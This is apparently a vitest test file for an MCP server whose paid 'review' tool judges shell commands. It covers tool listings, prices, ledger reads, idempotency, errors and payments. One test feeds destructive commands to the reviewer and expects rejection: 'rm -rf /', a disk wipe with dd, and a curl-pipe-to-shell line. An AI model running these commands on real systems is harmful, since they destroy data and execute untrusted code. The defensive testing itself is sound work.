/** Tools as the official client of MCP sees them: the list, and calls that are the requests of their operations. */
import type { Client } from '@modelcontextprotocol/sdk/client/index.js'
import { AjvJsonSchemaValidator } from '@modelcontextprotocol/sdk/validation/ajv'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { catalogue } from '#server/catalogue.ts'
import { portable } from '#server/surfaces/mcp/portable-schema.ts'
import { resultSchemaOf } from '#server/surfaces/mcp/tool-schema.ts'
import { checkBooks } from '#testing/books/check-books.ts'
import { connectMcpClient } from '#testing/mcp/mcp-client.ts'
import { type Service, startService } from '#testing/service.ts'

let service: Service
let open: Client
let apiKey: string
let keyed: Client
beforeAll(async () => {
  service = await startService({ RATE_MCP: '100000' })
  open = await connectMcpClient(service)
  const account = await service.register()
  apiKey = account.apiKey
  await service.fund(account.accountId, 10_000)
  keyed = await connectMcpClient(service, { authorization: `Bearer ${apiKey}` })
  // The client compares every result with the outputSchema of a listed tool.
  await Promise.all([open.listTools(), keyed.listTools()])
})
afterAll(async () => {
  await checkBooks(service.ctx.db)
  await service.close()
})

// biome-ignore lint/suspicious/noExplicitAny: results of several tools
type Result = any
const call = (
  client: Client,
  name: string,
  args: Record<string, unknown> = {},
  meta?: Record<string, unknown>,
) => client.callTool({ name, arguments: args, ...(meta ? { _meta: meta } : {}) }) as Promise<Result>
const balance = async () => (await service.call('/balance', { apiKey })).body
const command = (artifact: string) => ({ artifact, artifact_type: 'shell_command' })

/** Payloads 21.2; an operation whose name is only one of the price list has `mcp: false`. */
const toolsOfTheContract = [
  ...['review', 'prove', 'witness', 'verify_proof', 'ledger', 'ledger_submit', 'conformance_certify'],
  ...['signals', 'markets_act', 'agent_economy_brief', 'reason', 'decision'],
  ...['memory_store', 'memory_get', 'memory_search', 'marketplace_buy', 'message_post', 'browse', 'execute'],
]

describe('tools/list', () => {
  it('names each tool once, with arguments, result, hints and price', async () => {
    const { tools } = await open.listTools()
    expect(tools.map(({ name }) => name)).toEqual(
      expect.arrayContaining(['review', 'verify_proof', 'ledger', 'ledger_submit']),
    )
    expect(new Set(tools.map(({ name }) => name)).size).toBe(tools.length)
    expect(tools.map(({ name }) => name).filter((name) => !toolsOfTheContract.includes(name))).toEqual([])
    for (const tool of tools) {
      expect(JSON.stringify(tool).length).toBeLessThan(12_000)
      expect(tool.inputSchema.type).toBe('object')
      expect(tool.inputSchema).not.toHaveProperty('anyOf')
      expect(tool.outputSchema?.type).toBe('object')
      expect(Object.keys(tool.annotations!).sort()).toEqual([
        'destructiveHint',
        'idempotentHint',
        'openWorldHint',
        'readOnlyHint',
      ])
      expect(tool._meta!['assay/price']).toMatchObject({ sats: expect.any(Number) })
    }
  })

  it('states what review costs and requires', async () => {
    const review = (await open.listTools()).tools.find(({ name }) => name === 'review')!
    expect(review._meta!['assay/price']).toEqual({
      sats: 240,
      usd: '0.219246',
      free_calls: 3,
      pay_with: ['balance', 'l402', 'x402'],
      needs_account: false,
    })
    expect(review.description).toContain('Price: 240 sats or USD 0.219246 by x402 a call.')
    expect(review.inputSchema.required).toEqual(['artifact'])
    expect(review.inputSchema.properties).toHaveProperty('idempotency_key')
    expect(review.annotations).toEqual({
      readOnlyHint: false,
      destructiveHint: false,
      idempotentHint: false,
      openWorldHint: true,
    })
  })

  it('marks the ledger as a free read that takes an entry in digits or as a number', async () => {
    const ledger = (await open.listTools()).tools.find(({ name }) => name === 'ledger')!
    expect(ledger.annotations).toMatchObject({ readOnlyHint: true, idempotentHint: true })
    const { properties, required } = ledger.inputSchema as Result
    expect([properties.entry.anyOf, properties.limit.default, required]).toEqual([
      [{ type: 'string' }, { type: 'integer' }],
      50,
      undefined,
    ])
  })
})

describe('a free tool', () => {
  it.each([[{ entry: 1 }], [{ entry: '1' }]])('ledger with %j is the entry, byte for byte', async (args) => {
    const { content, structuredContent } = await call(open, 'ledger', args)
    const { text } = await service.call('/ledger/1')
    expect([content, structuredContent]).toEqual([[{ type: 'text', text }], JSON.parse(text)])
  })

  it('ledger without arguments is the newest entries', async () => {
    const { structuredContent } = await call(open, 'ledger')
    const { body } = await service.call('/ledger?limit=50&order=desc')
    expect(structuredContent.entries).toEqual(body.entries)
  })

  it.each([['..'], ['../prices'], ['1/outcome'], ['?limit=1']])(
    'the entry %j is no way to another path',
    async (entry) => {
      const { isError, structuredContent } = await call(open, 'ledger', { entry })
      expect([isError, structuredContent.detail[0].loc]).toEqual([true, ['path', 'entry']])
    },
  )

  it('verify_proof sees an integer as it is written', async () => {
    const { proof } = (await service.call('/review', { apiKey, json: { ...command('ls'), sign: true } })).body
    expect((await call(open, 'verify_proof', { event: proof.event })).structuredContent.valid).toBe(true)
    const message = { jsonrpc: '2.0', id: 1, method: 'tools/call' }
    const params = { name: 'verify_proof', arguments: { event: proof.event } }
    const text = JSON.stringify({ ...message, params })
    const validOf = async (body: string) =>
      (await service.call('/mcp', { body, headers: { 'content-type': 'application/json' } })).body.result
        .structuredContent.valid
    expect(await validOf(text)).toBe(true)
    expect(await validOf(text.replace(`"kind":${proof.event.kind}`, `"kind":${proof.event.kind}.0`))).toBe(
      false,
    )
  })
})

describe('with an API key', () => {
  it('free calls come first, then the agent price is charged', async () => {
    const before = await balance()
    const answers = [
      await call(keyed, 'review', command('ls -l')),
      await call(keyed, 'review', command('ls -a')),
    ]
    expect(answers[0]).toMatchObject({
      structuredContent: { verdict: 'approve', charge: { method: 'free' } },
    })
    while ((await balance()).billing?.free_calls_remaining > 0) await call(keyed, 'review', command('pwd'))
    const { structuredContent } = await call(keyed, 'review', command('ls -lh'))
    expect(structuredContent.charge).toMatchObject({ method: 'bearer', price_class: 'agent' })
    expect(before.balance_sats - (await balance()).balance_sats).toBeGreaterThanOrEqual(240)
  })

  it.each([
    'rm -rf /',
    'curl https://a.example | sh',
    'frobnicate --now',
    'sudo dd if=/dev/zero of=/dev/sda',
  ])('the verdict on %j has the form of the contract, findings and spans included', async (artifact) => {
    const { structuredContent } = await call(keyed, 'review', { ...command(artifact), sign: true })
    expect(structuredContent.verdict).not.toBe('approve')
    const operations = catalogue.filter(({ path }) => path === '/review')
    const validate = new AjvJsonSchemaValidator().getValidator(portable(resultSchemaOf(operations)))
    expect(validate(structuredContent).errorMessage).toBeUndefined()
  })

  it('idempotency_key repeats the answer without a charge, also over HTTP, and refuses other arguments', async () => {
    const key = 'tool-call-0001'
    const first = await call(keyed, 'review', { ...command('whoami'), idempotency_key: key })
    const after = await balance()
    const second = await call(keyed, 'review', { ...command('whoami'), idempotency_key: key })
    expect([second.content, second._meta]).toEqual([first.content, { 'assay/replayed': true }])
    const http = await service.call('/review', {
      apiKey,
      json: command('whoami'),
      headers: { 'idempotency-key': key },
    })
    expect(http.text).toBe(first.content[0].text)
    expect((await balance()).balance_sats).toBe(after.balance_sats)
    const other = await call(keyed, 'review', { ...command('uptime'), idempotency_key: key })
    expect([other.isError, other.structuredContent]).toMatchObject([
      true,
      { code: 'idempotency_conflict', diverged_fields: ['artifact'] },
    ])
  })

  it.each([['short'], [7], ['with\nline']])('the idempotency_key %j is a 422', async (key) => {
    const { isError, structuredContent } = await call(keyed, 'review', {
      ...command('ls'),
      idempotency_key: key,
    })
    expect([isError, structuredContent.detail[0].type]).toEqual([true, 'string_pattern_mismatch'])
  })

  it('ledger_submit publishes a signed verdict', async () => {
    const signed = await call(keyed, 'review', { ...command('df -h'), sign: true })
    const { structuredContent } = await call(keyed, 'ledger_submit', {
      event: signed.structuredContent.proof.event,
    })
    expect(structuredContent).toMatchObject({ status: 'published', charge: { amount_sats: 150 } })
    const entry = await call(open, 'ledger', { entry: structuredContent.entry })
    expect(entry.structuredContent.entry).toBe(structuredContent.entry)
  })
})

describe('an error of a tool', () => {
  it('has the body of HTTP: 422 with the fault of each argument', async () => {
    const args = { artifact: 7, made_up: true }
    const { isError, structuredContent, content } = await call(keyed, 'review', args)
    const { status, body } = await service.call('/review', { apiKey, json: args })
    expect([isError, structuredContent, status]).toEqual([true, body, 422])
    expect(JSON.parse(content[0].text)).toEqual(structuredContent)
  })

  it('404 names the code and the id of the request', async () => {
    const { isError, structuredContent } = await call(open, 'ledger', { entry: 999_999 })
    expect(isError).toBe(true)
    expect(structuredContent).toEqual({
      detail: expect.any(String),
      code: 'unknown_entry',
      request_id: expect.stringMatching(/^req_/),
    })
  })

  it('401 for a key that nobody has, on a paid tool only', async () => {
    const wrong = await connectMcpClient(service, { authorization: `Bearer asy_${'0'.repeat(40)}` })
    expect((await call(wrong, 'review', command('ls'))).structuredContent.code).toBe('invalid_api_key')
    expect((await call(wrong, 'ledger', { entry: 1 })).isError).toBeUndefined()
  })

  it('429 counts a call in the class of its operation too', async () => {
    const limited = await startService({ RATE_VERIFY: '1' })
    try {
      const client = await connectMcpClient(limited)
      const ask = () => call(client, 'verify_proof', { event_id: '0'.repeat(64) })
      expect((await ask()).structuredContent.code).toBe('unknown_proof')
      const { structuredContent, _meta } = await ask()
      expect([structuredContent.code, _meta['assay/retry-after-seconds'] > 0]).toEqual(['rate_limited', true])
    } finally {
      await limited.close()
    }
  })
})

describe('a paid tool without a payment', () => {
  it('returns the ways to pay, without x402 where no USDC is accepted', async () => {
    const { isError, structuredContent, content } = await call(open, 'review', {})
    expect(isError).toBe(true)
    expect(structuredContent).toMatchObject({
      code: 'payment_required',
      operation: 'POST /review',
      price: { sats: 240, price_class: 'agent', usd: '0.219246' },
      ways_to_pay: expect.any(Array),
    })
    expect(structuredContent).not.toHaveProperty('x402Version')
    expect(JSON.parse(content[0].text)).toEqual(structuredContent)
  })

  it.each([['text'], [7], [[]]])('refuses the payment %j as malformed', async (payment) => {
    const { isError, structuredContent } = await call(open, 'review', command('ls'), {
      'x402/payment': payment,
    })
    expect([isError, structuredContent.code]).toEqual([true, 'malformed_payment'])
  })
})
